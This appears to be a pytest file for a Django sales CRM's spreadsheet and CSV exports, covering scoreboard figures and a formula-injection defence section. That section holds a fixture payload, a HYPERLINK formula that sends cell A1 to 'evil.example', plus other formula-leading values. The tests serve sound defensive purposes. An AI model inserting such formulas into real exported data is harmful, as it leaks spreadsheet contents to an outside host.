import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from tests.factories import deal
from tiejun.crm.exports import customer_export
from tiejun.crm.selectors.customers import CustomerFilters
from tiejun.crm.services.customers import customer_create
from tiejun.errors import TiejunError
from tiejun.imports.exports import template_csv
from tiejun.org.models import UnitKind
from tiejun.org.services import unit_create, unit_update
from tiejun.scoreboard.exports import board_xlsx
from tiejun.scoreboard.selectors import board_for_unit
from tiejun.sheetcells import csv_cell, csv_row, xlsx_append, xlsx_put
from tiejun.targets.services import target_set

JUNE = dt.date(2026, 6, 1)


def test_board_xlsx_holds_the_board_figures(org):
    # given
    target_set(
        month=JUNE,
        metric="revenue",
        unit=org.branch,
        value=Decimal(40000),
        today=dt.date(2026, 5, 1),
    )
    target_set(
        month=JUNE,
        metric="revenue",
        unit=org.team_a,
        value=Decimal(30000),
        today=dt.date(2026, 5, 1),
    )
    deal(org.reps["R1"], "6000.50", dt.date(2026, 6, 3))
    deal(org.reps["R3"], 1000, dt.date(2026, 6, 10))
    board = board_for_unit(org.branch, month=JUNE, as_of=dt.date(2026, 6, 10))
    # when
    with translation.override("en"):
        data = board_xlsx(board)
    # then
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2, max_col=2) if row[0].value}
    assert "杭州分公司 (HZ)" in sheet["A1"].value and "2026-06" in sheet["A1"].value
    assert cells["Target"].value == 40000 and cells["Target"].number_format == "#,##0.00"
    assert cells["Achieved"].value == pytest.approx(7000.5)
    assert cells["Today"].value == 1000
    assert cells["Completion"].value == pytest.approx(round(7000.5 / 40000, 4))
    assert cells["Completion"].number_format == "0.0%"
    assert cells["Allocation gap"].value == 10000
    header = next(r for r in sheet.iter_rows() if r[0].value == "Rank")
    assert [c.value for c in header] == [
        "Rank", "Code", "Name", "Target", "Achieved", "Today", "Remaining", "Completion",
        "Required daily",
    ]  # fmt: skip
    body = [[c.value for c in r] for r in sheet.iter_rows(min_row=header[0].row + 1)]
    assert [(r[0], r[1], r[2], r[3]) for r in body] == [
        (1, "HZ1", "杭州一组", 30000),
        (2, "HZ2", "杭州二组", None),
    ]
    assert body[0][4] == pytest.approx(6000.5)
    assert sheet.column_dimensions["C"].width >= 10  # two columns per Chinese character


def test_board_xlsx_of_a_count_metric_uses_whole_numbers(org):
    deal(org.reps["R1"], 100, dt.date(2026, 6, 3))
    board = board_for_unit(
        org.team_a, month=JUNE, as_of=dt.date(2026, 6, 10), metric="new_customers"
    )
    sheet = load_workbook(io.BytesIO(board_xlsx(board))).active
    values = [c.value for r in sheet.iter_rows() for c in r]
    assert "R1" in values
    row = next(r for r in sheet.iter_rows() if r[1].value == "R1")
    assert row[4].value == 1 and row[4].number_format == "#,##0"


def test_template_csv_is_the_header_row():
    assert template_csv("deals") == (
        "deal_no,employee_no,customer_code,customer_name,amount,won_date,channel\n"
    )
    assert template_csv("units") == "code,name,kind,parent_code\n"
    with pytest.raises(TiejunError):
        template_csv("widgets")


# Formula injection: every export writes user text as text (tiejun.sheetcells).

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_evaluate_get_a_quote(start):
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_row([start + "x", "张三", 3, None]) == ["'" + start + "x", "张三", 3, None]


def test_xlsx_helpers_store_text_as_text_and_drop_what_xml_cannot_carry():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_put(sheet, 1, 1, FORMULA)
    assert xlsx_append(sheet, ["=1+1", 2, "bell\x07"]) == 2
    out = io.BytesIO()
    workbook.save(out)
    assert "<f>" not in sheet_xml(out.getvalue())
    read = load_workbook(io.BytesIO(out.getvalue())).active
    assert [(c.value, c.data_type) for row in read.iter_rows() for c in row if c.value] == [
        (FORMULA, "s"),
        ("=1+1", "s"),
        (2, "n"),
        ("bell", "s"),
    ]


def test_board_xlsx_writes_unit_names_as_text(org):
    # given: a branch and a team whose names are formulas
    unit_update(unit=org.branch, name=FORMULA)
    unit_update(unit=org.team_a, name="=1+1")
    board = board_for_unit(org.branch, month=JUNE, as_of=dt.date(2026, 6, 10))
    # when
    data = board_xlsx(board)
    # then
    assert "<f>" not in sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith(FORMULA)
    team = next(r for r in sheet.iter_rows() if r[1].value == "HZ1")
    assert (team[2].value, team[2].data_type) == ("=1+1", "s")


def test_board_xlsx_of_a_unit_code_a_sheet_title_cannot_hold(org):
    unit = unit_create(code="HZ:1/2", name="杭州三组", kind=UnitKind.TEAM, parent=org.branch)
    board = board_for_unit(unit, month=JUNE, as_of=dt.date(2026, 6, 10))
    assert load_workbook(io.BytesIO(board_xlsx(board))).active.title == "HZ_1_2"


@pytest.fixture
def formula_customers(org):
    customer_create(code="C1", name=FORMULA, owner=org.reps["R1"], phone="+86 138 0000 0001")
    customer_create(code="C2", name="@SUM(A1)", address="-2+3", owner=org.reps["R1"])
    return org


def test_customer_csv_export_quotes_formulas(formula_customers):
    export = customer_export(person=formula_customers.admin, filters=CustomerFilters())
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["C1"][1:2] == ["'" + FORMULA]
    assert by_code["C1"][5] == "'+86 138 0000 0001"
    assert (by_code["C2"][1], by_code["C2"][4]) == ("'@SUM(A1)", "'-2+3")


def test_customer_xlsx_export_writes_formulas_as_their_text(formula_customers):
    export = customer_export(
        person=formula_customers.admin, filters=CustomerFilters(), format="xlsx"
    )
    assert "<f>" not in sheet_xml(export.content)
    sheet = load_workbook(io.BytesIO(export.content)).active
    by_code = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert (by_code["C1"][1].value, by_code["C1"][1].data_type) == (FORMULA, "s")
    assert (by_code["C2"][1].value, by_code["C2"][4].value) == ("@SUM(A1)", "-2+3")
    assert by_code["C1"][5].value == "+86 138 0000 0001"
